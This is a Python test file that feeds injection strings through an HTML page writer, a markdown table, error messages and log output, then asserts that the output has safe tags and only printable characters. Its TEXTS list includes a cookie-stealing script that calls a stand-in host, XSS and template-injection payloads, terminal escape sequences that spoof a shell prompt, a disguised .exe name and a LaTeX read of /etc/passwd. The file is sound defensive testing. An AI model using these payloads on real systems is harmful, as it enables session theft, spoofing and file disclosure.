"""Captions and names of classes that a page, a table, a message or a log would show."""

import logging
from collections.abc import Iterator
from functools import partial
from html.parser import HTMLParser

from textpage import page_of

from launch.pictures.html_page import write_html
from launch.report.tables import markdown
from payloads import Payload, Sandbox
from pipeline.data.quarantine import BadSample, Loaded, Quarantine
from pipeline.errors import SampleError

TEXTS = [
    *(
        "<script>fetch('//host/'+document.cookie)</script>",
        "<img src=x onerror=alert(1)>",
        "</style><script>1</script>",
    ),
    *(
        "</title><script>1</script>",
        "' onmouseover='alert(1)",
        '" onfocus="alert(1)" autofocus="',
        "javascript:alert(1)",
    ),
    *(
        "<svg/onload=alert(1)>",
        "<iframe srcdoc='<script>1</script>'>",
        "<a href=javascript:alert(1)>x</a>",
        "<!--",
    ),
    *(
        "-->",
        "<![CDATA[",
        "&lt;script&gt;",
        "<base href=//host>",
        "<meta http-equiv=refresh content=0;url=//host>",
    ),
    *(
        "<object data=x>",
        "<link rel=stylesheet href=//host>",
        "<math><mi//xlink:href='data:x,<script>1</script>'>",
    ),
    *(
        "{{7*7}}",
        "${7*7}",
        "<%= 7 %>",
        "\x1b]0;pwn\x07",
        "\x1b[2J\x1b[1;1H",
        "\x9b2J",
        "\x1b]8;;http://host\x1b\\x\x1b]8;;\x1b\\",
    ),
    *(
        "\x1bP$q\x1b\\",
        "\r\x1b[K$ SHELL",
        "\b\b\bSHELL",
        "\u202egpj.exe",
        "\u2066x\u2069",
        "\u2028<script>1</script>",
    ),
    *(
        "line\nssh-ed25519 AAAA",
        "| a | b |\n|---|---|",
        "[x](javascript:alert(1))",
        "a\x00b",
        "\ud800",
        "\ufeff",
    ),
    *(
        "%s%n%d{0}",
        "{0.__class__}",
        "$\\LaTeX \\input{/etc/passwd}$",
        "a" * 100_000,
        "@import url(//host)",
        "\x7f",
    ),
]


def cases() -> Iterator[Payload]:
    for text in TEXTS:
        yield Payload(f"page {text!r:.50}", partial(_page, text), refused=False)
        yield Payload(f"table, message and log {text!r:.50}", partial(_terminal, text), refused=False)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_pi = unknown_decl = handle_comment


def _tags(text: str, sandbox: Sandbox) -> tuple[list[tuple[str, tuple[str, ...]]], list[str], str]:
    shown = write_html(page_of(text), sandbox.folder / "page.html").read_text(encoding="utf-8")
    tags = _Tags()
    tags.feed(shown)
    return tags.seen, tags.others, shown


def _page(text: str, sandbox: Sandbox) -> None:
    """Has the tags that it has with harmless words, and no character that is a command."""
    seen, others, shown = _tags(sandbox.fill(text), sandbox)
    assert (seen, others) == _tags("words", sandbox)[:2]
    assert shown.replace("\u3000", "").isprintable()


def _terminal(text: str, sandbox: Sandbox) -> None:
    text = sandbox.fill(text)
    table = markdown([text, "b"], [[text, "1"], ["x", text]])
    assert table.count("\n") == 3 and table.replace("\n", "").isprintable()
    assert str(SampleError(f"sample {text.replace(chr(10), '')}")).isprintable()
    assert all(line.isprintable() for line in _logged(text))


def _logged(text: str) -> list[str]:
    lines: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: lines.append(record.getMessage())
    logger = logging.getLogger("pipeline.data.quarantine")
    logger.addHandler(handler)
    try:
        Quarantine(5).checked_batch(Loaded(None, 1, (BadSample(0, text, text, text),)))
    finally:
        logger.removeHandler(handler)
    assert lines
    return lines
